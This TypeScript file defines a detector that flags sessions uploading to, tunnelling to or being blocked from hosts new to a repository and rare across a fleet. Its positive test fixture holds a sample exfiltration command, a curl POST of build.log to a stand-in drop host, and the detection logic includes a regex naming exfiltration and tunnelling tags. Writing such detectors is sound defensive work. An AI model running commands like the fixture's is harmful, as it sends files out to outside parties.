import { remoteHosts, remoteHostsOf } from '../behaviour.js';
import { type Hit, NO_HITS, type StreamDetector } from '../detector.js';
import { MAX_HOSTS } from '../facts-bounds.js';
import type { Observation } from '../observation.js';
import { noveltyHit, perFacts, quote, warmFleet } from './novelty.js';

const thresholds = {
  min_fleet_sessions: 100,
  min_other_senders: 1,
  min_common_senders: 2,
  max_fleet_share: 0.02,
} as const;

/** Data sent to, or a blocked connection to, a host the fleet has (almost) never contacted. */
const domainKeys = perFacts((f) => remoteHostsOf(f).map((h) => `dom:${h}`));

export const novelDomain: StreamDetector = {
  id: 'novelty.domain',
  title: 'First-seen destination',
  description:
    'The session uploads to, tunnels to, or is blocked from a host that this repository never contacted and that is rare ' +
    'across the fleet. Plain downloads from new hosts are only recorded.',
  severity: 'medium',
  attack: ['T1041', 'T1071'],
  falsepositives: ['A new SaaS integration under development'],
  triage: 'Who owns the host? Was any data sent (command text, bytes out)? Was the connection allowed?',
  thresholds,
  kind: 'novelty',
  fixtures: {
    positive: {
      history: warmFleet(100),
      session: [
        {
          kind: 'command',
          command: 'curl -s -X POST --data-binary @build.log https://drop.unseen-host.example/in',
          t: 0,
        },
      ],
    },
    negative: {
      history: warmFleet(100, [
        {
          kind: 'command',
          command: 'curl -s -X POST --data-binary @r.json https://ci.known.example/in',
          t: 9,
        },
      ]),
      session: [
        {
          kind: 'command',
          command: 'curl -s -X POST --data-binary @r.json https://ci.known.example/in',
          t: 0,
        },
      ],
    },
  },
  keys(obs) {
    return domainKeys(obs.facts);
  },
  observe(obs, s, ctx) {
    const sends =
      obs.actionClass === 'network'
        ? obs.denied
        : obs.actionClass === 'exec' &&
          obs.facts.tags.some((t) =>
            /^(net\.(upload|dns-exfil|web-service|raw-socket|tunnel)|exfil\.)/.test(t),
          );
    if (!sends) {
      // Still note it (so a later upload in this session to the same host is not "new"), without an alert.
      for (const h of remoteHosts(obs)) s.noted.add(`${this.id}\0dom:${h}`);
      return NO_HITS;
    }
    const unread =
      obs.actionClass === 'exec' && obs.facts.cut?.includes('hosts') ? [unreadHosts(this.id, obs)] : [];
    return remoteHosts(obs)
      .flatMap((h) =>
        noveltyHit(
          { id: this.id, thresholds },
          'repo',
          `dom:${h}`,
          `${obs.denied ? 'blocked connection' : 'upload'} to ${quote(h)}`,
          obs,
          s,
          ctx,
        ),
      )
      .concat(unread);
  },
};

/**
 * An upload to more hosts than a command's facts keep (the likeliest to matter first: analyzer/facts-bounds.ts):
 * the others were never compared with what the repository contacted, so one of them may be new. Said whatever the
 * fleet's warm-up, for an upload to that many hosts at once is itself unusual.
 */
function unreadHosts(id: string, obs: Observation): Hit {
  return {
    detector: id,
    evidence: [obs],
    value: 'dom:*',
    factors: [
      {
        rule: `${id}:hosts-not-all-read`,
        value: MAX_HOSTS,
        text:
          `upload naming more than ${MAX_HOSTS} hosts: not all read (${MAX_HOSTS} kept), so the others were ` +
          'never compared with the hosts this repository contacted',
      },
    ],
  };
}
